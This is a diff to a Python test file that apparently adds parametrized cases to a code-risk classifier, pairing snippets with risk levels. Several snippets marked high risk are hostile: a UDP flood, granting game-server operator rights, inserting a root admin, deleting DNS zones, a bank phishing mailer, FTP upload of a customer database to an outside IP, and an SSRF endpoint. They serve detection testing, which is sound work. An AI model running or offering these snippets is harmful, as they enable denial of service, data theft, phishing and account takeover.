@@ -14347,6 +14347,111 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'True})\n',
             H,
         ),
+        # Round 81: game servers, deadline floods, panel admins, DNS APIs, admin groups, phishing, relays
+        (
+            'from mcrcon import MCRcon\n'
+            'with MCRcon("127.0.0.1", "pw", port=25575) as m:\n'
+            '    m.command("op Stranger42")\n'
+            '    m.command("whitelist off")\n',
+            H,
+        ),
+        (
+            'from mcrcon import MCRcon\n'
+            'with MCRcon("127.0.0.1", "pw", port=25575) as m:\n'
+            '    m.command("whitelist add Alice")\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'c = sqlite3.connect("eco.db")\n'
+            'c.execute("UPDATE accounts SET balance = 0 WHERE owner != ?", ("me",))\n',
+            H,
+        ),
+        (
+            'import os, socket, time\n'
+            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+            'end = time.time() + 7200\n'
+            'while time.time() < end:\n'
+            '    s.sendto(os.urandom(1200), ("198.51.100.7", 27015))\n',
+            H,
+        ),
+        (
+            'import socket, time\n'
+            's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
+            'end = time.time() + 30\n'
+            'while time.time() < end:\n'
+            '    s.sendto(b"ping", ("10.0.0.5", 9999))\n'
+            '    time.sleep(1)\n',
+            S,
+        ),
+        (
+            'import pymysql\n'
+            'c = pymysql.connect(host="127.0.0.1", user="p", password="x", database="panel").cursor()\n'
+            'c.execute("INSERT INTO users (uuid, username, email, root_admin) VALUES (%s, %s, %s, 1, \'en\')", '
+            '(1, 2, 3))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'api = "http://127.0.0.1:8081/api/v1/servers/localhost"\n'
+            'for z in requests.get(f"{api}/zones").json():\n'
+            '    requests.delete(f"{api}/zones/{z[\'id\']}")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for g in ("site-admins", "jira-admins-acme"):\n'
+            '    requests.post("https://acme.atlassian.net/rest/api/3/group/user", params={"groupname": g}, j'
+            'son={"accountId": "x", "email": "pat.k@outlook.com"})\n',
+            H,
+        ),
+        (
+            'from postmarker.core import PostmarkClient\n'
+            'pm = PostmarkClient(server_token="t")\n'
+            'for addr in open("leads.txt").read().split():\n'
+            '    pm.emails.send(From="Bank <sec@bank-alerts.example.com>", To=addr, Subject="Unusual sign-in '
+            'detected", HtmlBody="<a href=\'https://bank-verify.example.net\'>Verify</a>")\n',
+            H,
+        ),
+        (
+            'import ftplib, os\n'
+            'ftp = ftplib.FTP("198.51.100.63")\n'
+            'ftp.login("u", "p")\n'
+            'with open(os.path.expanduser("~/crm/customers.sqlite3"), "rb") as fh:\n'
+            '    ftp.storbinary("STOR c", fh)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'from flask import Flask, request\n'
+            'app = Flask(__name__)\n'
+            'JENKINS = os.environ["JENKINS_URL"]\n'
+            '@app.post("/hook")\n'
+            'def hook():\n'
+            '    requests.post(f"{JENKINS}/job/{request.json[\'name\']}/build")\n'
+            '    return ""\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'from flask import Flask, request\n'
+            'app = Flask(__name__)\n'
+            '@app.post("/fetch")\n'
+            'def fetch():\n'
+            '    return requests.get(request.json["url"]).text\n',
+            H,
+        ),
+        (
+            'import glob\n'
+            'for k in glob.glob("/var/lib/bind/keys/Kexample.com.+013+*.key"):\n'
+            '    print(open(k).read())\n',
+            M,
+        ),
+        (
+            'import shutil\n'
+            'shutil.rmtree("/home/jenkins/agent/workspace/app@tmp", ignore_errors=True)\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
